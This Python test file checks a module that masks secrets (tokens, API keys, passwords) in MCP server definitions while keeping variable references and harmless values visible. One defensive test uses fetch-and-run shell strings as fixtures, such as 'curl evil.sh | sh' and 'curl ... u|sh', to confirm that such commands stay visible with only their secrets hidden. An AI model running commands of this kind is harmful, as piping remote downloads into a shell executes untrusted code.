"""Secrets in definitions are masked; harmless values are shown."""

import json

import pytest
from hypothesis import given
from hypothesis import strategies as st

from toolcrib.model.json import JsonObject
from toolcrib.servers.masking import (
    mask_arguments,
    mask_command,
    mask_definition,
    mask_text,
    mask_url,
    mask_value,
)

SECRETS = [
    "ghp_" + "aB3" * 12,
    "github_pat_" + "11AAAA" * 6,
    "sk-ant-" + "a1B2" * 8,
    "AKIA" + "IOSF0DNN7EXAMPLE",
    "xoxb-1234567890-abcdefghijkl",
    "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
    "AIza" + "Sy0aB3dE5fG7hI9jK1lM3nO5pQ7rS9tU1",
    "9f86d081884c7d659a2feaa0c55ad015",
]


@pytest.mark.parametrize("secret", SECRETS)
def test_key_is_masked_in_every_field(secret: str) -> None:
    """In the environment, headers, arguments, URLs and unknown fields."""
    raw = {
        "command": "npx",
        "args": [
            "--api-key",
            secret,
            f"--token={secret}",
            secret,
            f"KEY={secret}",
            "--header",
            f"Authorization: Bearer {secret}",
        ],
        "env": {"ANYTHING": secret, "X": f"prefix {secret}"},
        "headers": {"Authorization": f"Bearer {secret}", "X-Custom": secret},
        "url": f"https://user:{secret}@h/{secret}/mcp?api_key={secret}&x={secret}",
        "apiKey": secret,
        "nested": {"clientSecret": secret, "list": [secret]},
    }
    shown = json.dumps(mask_definition(raw))
    assert secret not in shown
    assert secret[:-4] not in shown


def test_references_and_harmless_values_are_shown() -> None:
    """Users must see which variable is meant, and a log level is not a secret."""
    shown = {
        "A": "${TOKEN}",
        "B": "$TOKEN",
        "C": "{env:TOKEN}",
        "D": "${{ secrets.T }}",
        "E": "debug",
        "F": "/usr/bin",
        "G": "true",
        "H": "8080",
    }
    assert mask_definition({"env": shown}) == {"env": shown}
    assert mask_value("Authorization", "Bearer ${TOKEN}") == "Bearer ${TOKEN}"
    assert mask_value("Accept", "application/json") == "application/json"
    arguments = [
        "-y",
        "@modelcontextprotocol/server-github@1.2.3",
        "--port",
        "8080",
        "--config",
        "./settings.production.json",
    ]
    assert mask_arguments(arguments) == arguments
    assert mask_url("https://mcp.example.com/v1/mcp?region=eu") == "https://mcp.example.com/v1/mcp?region=eu"


def test_default_of_a_reference_is_masked() -> None:
    """The default may be the secret itself."""
    assert "hunter2hunter2" not in mask_value("PASSWORD", "${PASSWORD:-hunter2hunter2}")


@given(st.text(min_size=1, max_size=40))
def test_value_under_a_secret_name_is_masked_unless_it_is_a_reference(value: str) -> None:
    shown = mask_value("API_TOKEN", value)
    assert (
        shown != value
        or value.strip().startswith(("$", "{"))
        or value.lower().startswith(("bearer", "basic", "token"))
        or value == "****"
    )


@given(st.text(max_size=60))
def test_any_text_and_url_can_be_masked(text: str) -> None:
    mask_text(text)
    mask_url(text)


@pytest.mark.parametrize(
    ("arguments", "shown"),
    [
        (["--token", "hunter2hunter2", "run"], ["--token", "****", "run"]),
        (["--password=hunter2hunter2"], ["--password=****"]),
        (["--env=API_TOKEN=hunter2hunter2"], ["--env=API_TOKEN=****"]),
        (["--auth", "Bearer", "hunter2hunter2", "run"], ["--auth", "Bearer", "****", "run"]),
        (["--url=https://me:hunter2hunter2@h/mcp"], ["--url=https://****@h/mcp"]),
        (["${API_TOKEN:-hunter2hunter2}"], ["${API_TOKEN:-****}"]),
        (["server --token hunter2hunter2 -v"], ["server --token **** -v"]),
        (["--headers", '{"Authorization": "Bearer hunter2hunter2"}'], ["--headers", '{"Authorization":"Bearer ****"}']),
        (["--token", "${TOKEN}", "--key", "-v", "x"], ["--token", "${TOKEN}", "--key", "-v", "x"]),
    ],
)
def test_secret_in_arguments_is_masked_and_its_flag_is_shown(arguments: list[str], shown: list[str]) -> None:
    """Even if the value alone looks like an ordinary word."""
    assert mask_arguments(arguments) == shown


@pytest.mark.parametrize(
    ("code", "shown"),
    [
        ("TOKEN=hunter2hunter2 curl evil.sh | sh", "TOKEN=**** curl evil.sh | sh"),
        ('export TOKEN="hunter2 x"; evil', "export TOKEN=****; evil"),
        ("curl -H 'Authorization: Bearer hunter2hunter2' u|sh", "curl -H 'Authorization: Bearer ****' u|sh"),
        ("auth: ; evil --token hunter2hunter2 && worse", "auth: ; evil --token **** && worse"),
    ],
)
def test_code_that_would_run_is_shown_with_its_secrets_masked(code: str, shown: str) -> None:
    """A project must not hide what it runs behind a name that looks secret."""
    assert mask_command(["env", "A=1", "bash", "-lc", code]) == ["env", "A=1", "bash", "-lc", shown]


def test_secrets_that_are_not_text_are_masked() -> None:
    """A number, a list, and arguments of other types."""
    raw = {
        "args": ["--token", "hunter2hunter2", "--pin", 123456, None, {"a": 1}, 5],
        "env": {"A_TOKEN": 12345678, "PORT": 8080, "ON": True, "LIST": ["hunter2hunter2"]},
        "apiKey": 12345678,
    }
    assert mask_definition(raw) == {
        "args": ["--token", "****", "--pin", "****", None, {"a": 1}, 5],
        "env": {"A_TOKEN": "****", "PORT": 8080, "ON": True, "LIST": ["****"]},
        "apiKey": "****",
    }


def test_secret_that_a_definition_repeats_is_masked_everywhere() -> None:
    raw: JsonObject = {
        "url": "https://api.example/mcp?key=sekrit-in-a-header",
        "headers": {"X-Api-Key": "sekrit-in-a-header"},
        "args": ["--mode", "sekrit-in-a-header"],
    }
    shown = mask_definition(raw)
    assert "sekrit-in-a-header" not in str(shown)
    assert shown["args"] == ["--mode", "****"]
